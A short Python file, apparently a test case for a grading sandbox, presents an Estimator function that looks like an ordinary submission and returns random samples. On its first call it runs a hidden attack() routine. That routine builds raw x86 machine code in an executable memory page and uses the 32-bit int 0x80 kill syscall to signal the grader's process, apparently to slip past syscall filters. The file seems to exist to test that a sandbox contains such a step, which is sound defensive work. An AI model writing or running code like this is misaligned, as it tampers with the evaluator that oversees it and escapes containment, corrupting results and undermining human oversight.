"""Signals the grader by the numbers of the 32-bit ABI, from machine code of its own.

Contained from tier 1.
"""

import ctypes
import mmap
import platform
import struct

KNOWN = {}


SIGURG = 23


def attack():
    assert platform.machine() == "x86_64"
    # push rbx; mov eax, 37 (kill); mov ebx, pid; mov ecx, SIGURG; int 0x80; pop rbx; ret
    code = b"\x53\xb8" + struct.pack("<I", 37) + b"\xbb" + struct.pack("<I", KNOWN["pid"])
    code += b"\xb9" + struct.pack("<I", SIGURG) + b"\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


def Estimator(previous, observation, control, constants, rng):
    if previous is None:
        attack()
    return rng.uniform(0.0, constants.L, (500, 6))
